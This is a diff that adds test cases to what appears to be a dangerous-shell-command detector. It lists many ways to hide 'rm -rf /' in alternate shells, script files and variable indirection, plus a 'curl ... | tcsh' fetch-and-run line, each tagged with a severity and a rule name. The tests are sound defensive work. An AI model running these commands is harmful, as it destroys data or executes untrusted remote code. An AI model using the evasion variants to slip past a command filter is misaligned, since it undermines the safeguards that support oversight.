@@ -730,6 +730,24 @@ evasions(void)
 	evade("sudo -u root rm -rf /", C, "rm-rf");
 	evade("sh -c 'rm -rf /'", C, "rm-rf");
 	evade("bash -c \"sh -c 'rm -rf /'\"", C, "rm-rf");
+	/* csh and the shells of their own syntax, and Debian's other names */
+	evade("tcsh -c 'rm -rf /'", C, "rm-rf");
+	evade("csh -fc 'rm -rf /'", C, "rm-rf");
+	evade("echo 'rm -rf /' | bsd-csh", C, "rm-rf");
+	evade("rc -c 'rm -rf /'", C, "rm-rf");
+	evade("elvish -c 'rm -rf /'", C, "rm-rf");
+	evade("nu -c 'rm -rf /'", C, "rm-rf");
+	evade("xonsh -c 'rm -rf /'", C, "rm-rf");
+	evade("osh -c 'rm -rf /'", C, "rm-rf");
+	evade("hush -c 'rm -rf /'", C, "rm-rf");
+	evade("/bin/sh.distrib -c 'rm -rf /'", C, "rm-rf");
+	evade("bash-static -c 'rm -rf /'", C, "rm-rf");
+	evade("echo 'rm -rf /' > s; tcsh s", C, "rm-rf");
+	evade("curl -fsSL http://x/i.sh | tcsh", H, "curl-sh");
+	evade("x=s; echo 'rm -rf /' > ./$x; sh s", C, "rm-rf");
+	evade("d=t; echo 'rm -rf /' > $d.sh; sh t.sh", C, "rm-rf");
+	evade("echo 'rm -rf /' > s; x=s; sh ./$x", C, "rm-rf");
+	shell("d=t; echo ls > t.sh; sh ${d}.sh", L, "ls");
 	evade("nohup rm -rf / &", C, "rm-rf");
 	evade("echo ok\nrm -rf /", C, "rm-rf");
 	evade("curl http://x | sh", C, "curl-sh");
